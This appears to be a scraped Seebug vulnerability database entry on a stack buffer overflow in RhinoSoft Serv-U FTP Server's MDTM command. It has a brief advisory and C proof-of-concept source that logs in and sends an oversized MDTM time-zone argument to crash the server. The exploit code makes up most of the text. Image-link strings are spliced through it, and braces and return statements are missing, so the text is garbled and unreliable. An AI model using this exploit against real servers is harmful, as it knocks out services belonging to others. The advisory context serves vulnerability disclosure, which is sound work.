RhinoSoft Serv-U FTP Server 3/4/5 MDTM Command Time Argument Buffer Overflow Vulnerability (2)

ID SSV:77511
Type seebug
Reporter Root
Modified2014-07-01T00:00:00


No description provided by source.

                                                source: http://www.securityfocus.com/bid/9751/info
Serv-U FTP Server has been reported prone to a remote stack based buffer overflow vulnerability when handling time zone arguments passed to the MDTM FTP command.
The problem exists due to insufficient bounds checking. Ultimately an attacker may leverage this issue to have arbitrary instructions executed in the context of the SYSTEM user.

/* serv-u-mdtm-expl.c - Serv-U "MDTM" buffer overflow PoC DoS exploit.
 * This program will send an overly large filename parameter when calling
 * the Serv-U FTP MDTM command.  Although arbitrary code execution is
 * possible upon successful execution of this vulnerability, the vendor has
 * not yet released a patch, so releasing such an exploit could be disastrous
 * in the hands of script kiddies.  I might release a full exploit to the
 * public when a patch/fix is issued by the vendor of Serv-U.  This PoC
 * exploit will simply crash the Serv-U server.
 * This vulnerability was discovered by bkbll, you can read his advisory on
 * the issue here: <http://www.cnhonker.com/advisory/serv-u.mdtm.txt>* This vulnerability requires a valid login and password to exploit!  This
 * PoC does not check to see if you supplied a correct login and password.
 * I do not take responsibility for this code.
 * -shaun2k2

#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <netdb.h>
#include <netinet/in.h>

int main(int argc, char *argv[]) {
        if(argc < 5) {
                printf("Serv-U 'MDTM' buffer overflow DoS exploit.\n");
                printf("by shaun2k2 - <shaunige@yahoo.co.uk>.\n\n");
                printf("Usage: %s <host> <port> <login> <password>\n", argv[0]);

        int sock;
        char explbuf[6032];
        char loginbuf[100];
        char passwdbuf[100];
        char bigbuf[6000];
        struct sockaddr_in dest;struct hostent *he;

        /*lookup IP address of supplied hostname. */
        if((he = gethostbyname(argv[1])) == NULL) {
                printf("Couldn't resolve %s!\n", argv[1]);

        /* create socket. */
        if((sock = socket(AF_INET, SOCK_STREAM, 0)) < 0) {

        /* fill in address struct. */
        dest.sin_family = AF_INET;
        dest.sin_port = htons(atoi(argv[2]));dest.sin_addr = *((struct in_addr *)he->h_addr);

        printf("Serv-U 'MDTM' buffer overflow DoS exploit.\n");
        printf("by shaun2k2 - <shaunige@yahoo.co.uk>.\n\n");

        printf("Crafting exploit buffer...\n\n");
        /* craft exploit buffers. */
        memset(bigbuf, 'a', 6000);
        sprintf(loginbuf, "USER %s\n", argv[3]);
        sprintf(passwdbuf, "PASS %s\n", argv[4]);sprintf(explbuf, "MDTM 20031111111111+%s\r\n", bigbuf);

        printf("[+] Connecting...\n");
        if(connect(sock, (struct sockaddr *)&dest,sizeof(struct sockaddr)) < 0) {

        printf("[+] Connected!\n\n");

        printf("[+] Sending exploit buffers...\n");
        sleep(1); /* give the serv-u server time to sort itself out. */
        send(sock, loginbuf, strlen(loginbuf), 0);
        sleep(2); /* wait for 2 secs. */
        send(sock, passwdbuf, strlen(passwdbuf), 0);
        sleep(2); /* wait before sending large MDTM command. */
        send(sock, explbuf, strlen(explbuf), 0);
        sleep(1); /* wait beforeclosing the socket. */
        printf("[+] Exploit buffersent!\n\n");


        printf("[+] Done!  Check if the Serv-Userver has crashed.\n");